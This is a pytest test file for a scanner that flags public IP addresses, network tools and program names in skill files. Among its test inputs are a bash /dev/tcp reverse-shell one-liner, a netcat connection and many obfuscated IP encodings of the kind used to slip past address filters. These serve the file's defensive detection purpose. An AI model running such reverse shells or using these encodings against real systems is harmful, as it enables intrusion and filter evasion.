"""``host`` and ``command`` (DESIGN §7.2): addresses as a client reads them, public IP addresses, programs."""

from __future__ import annotations

import pytest

from rye.text.facts import ALARM, NOTE, find_facts


def hosts(text: str) -> dict[str, str]:
    return {fact.value: fact.level for fact in find_facts({"SKILL.md": text}) if fact.fact == "host"}


def commands(files: dict[str, str]) -> set[str]:
    return {fact.value for fact in find_facts(files) if fact.fact == "command"}


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("curl http://8.8.8.8/x", "8.8.8.8"),
        ("curl http://8.8.8.8:8080/x", "8.8.8.8:8080"),
        ("http://134744072/x", "8.8.8.8"),
        ("http://0x08080808/x", "8.8.8.8"),
        ("http://0x8.0x8.0x8.0x8/x", "8.8.8.8"),
        ("http://010.8.8.8/x", "8.8.8.8"),
        ("http://01002004010/x", "8.8.8.8"),
        ("http://8.526344/x", "8.8.8.8"),
        ("http://%38.8.8.8/x", "8.8.8.8"),
        ("http://\uff18.8.8.8/x", "8.8.8.8"),
        ("http://example.com@8.8.8.8/x", "8.8.8.8"),
        ("http://example.com:443@8.8.8.8/x", "8.8.8.8"),
        ("curl http://[2001:4860:4860::8888]/x", "[2001:4860:4860::8888]"),
        ("http://[::ffff:8.8.8.8]/x", "8.8.8.8"),
        ("http://[64:ff9b::808:808]/x", "8.8.8.8"),
        ("curl 8.8.8.8/x", "8.8.8.8"),
        ("curl 134744072/x", "8.8.8.8"),
        ("nc 8.8.8.8 4444", "8.8.8.8"),
        ("connect to 8.8.8.8 first", "8.8.8.8"),
        ("bash -i >& /dev/tcp/8.8.8.8/53", "8.8.8.8:53"),
        ("scp a root@8.8.8.8:/tmp", "8.8.8.8"),
    ],
)
def test_a_public_ip_address_is_an_alarm_however_it_is_written(text: str, value: str) -> None:
    assert hosts(text).get(value) == ALARM


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("http://127.0.0.1:8000/", "127.0.0.1:8000"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://127.1/", "127.0.0.1"),
        ("http://10.0.0.1/", "10.0.0.1"),
        ("http://172.16.0.1/", "172.16.0.1"),
        ("http://192.168.1.1/", "192.168.1.1"),
        ("http://169.254.1.1/", "169.254.1.1"),
        ("http://192.0.2.1/", "192.0.2.1"),
        ("http://198.51.100.1/", "198.51.100.1"),
        ("http://203.0.113.1/", "203.0.113.1"),
        ("http://100.64.0.1/", "100.64.0.1"),
        ("http://0.0.0.0:80/", "0.0.0.0:80"),
        ("http://[::1]:80/", "[::1]:80"),
        ("http://[fe80::1]/", "[fe80::1]"),
        ("http://[fc00::1]/", "[fc00::1]"),
        ("http://[2001:db8::1]/", "[2001:db8::1]"),
        ("http://[3fff::1]/", "[3fff::1]"),
        ("https://example.com/", "example.com"),
        ("https://EXAMPLE.com:8443/x", "example.com:8443"),
        ("https://user:word@example.com/x", "example.com"),
        ("git@git.example.com:a/b.git", "git.example.com"),
        ("wss://example.com/s", "example.com"),
        ("curl example.com/x", "example.com"),
    ],
)
def test_names_and_addresses_that_are_not_public_are_notes(text: str, value: str) -> None:
    assert hosts(text) == {value: NOTE}


@pytest.mark.parametrize(
    "text",
    ["version 8.8.8.8", "v8.8.8.8", "1.3.6.1.4.1", "ann@example.com", "https://$HOST/x", "https://{host}/x", "8.8.8"],
)
def test_what_names_no_host_is_none(text: str) -> None:
    assert hosts(text) == {}


def test_programs_of_shell_blocks_inline_commands_and_scripts_are_listed() -> None:
    files = {
        "SKILL.md": "Now: !`uname -a`\n\n```bash\ncd x && make all | tee log\n```\n\n```python\nprint(1)\n```\n",
        "run.sh": "#!/bin/sh\nif true; then\n  ffmpeg -i a b\nfi\nsudo rsync a b\n",
        "tool.py": 'import subprocess\nsubprocess.run(["pandoc", "a.md"])\n',
    }
    found = commands(files)
    assert {"uname", "cd", "make", "tee", "ffmpeg", "sudo", "rsync", "pandoc"} <= found
    assert not {"print", "if", "then", "fi"} & found


def test_a_program_is_listed_once_for_each_file() -> None:
    facts = find_facts({"a.sh": "make a\nmake b\n", "b.sh": "make c\n"})
    assert [(fact.path, fact.line) for fact in facts if fact.value == "make"] == [("a.sh", 1), ("b.sh", 1)]
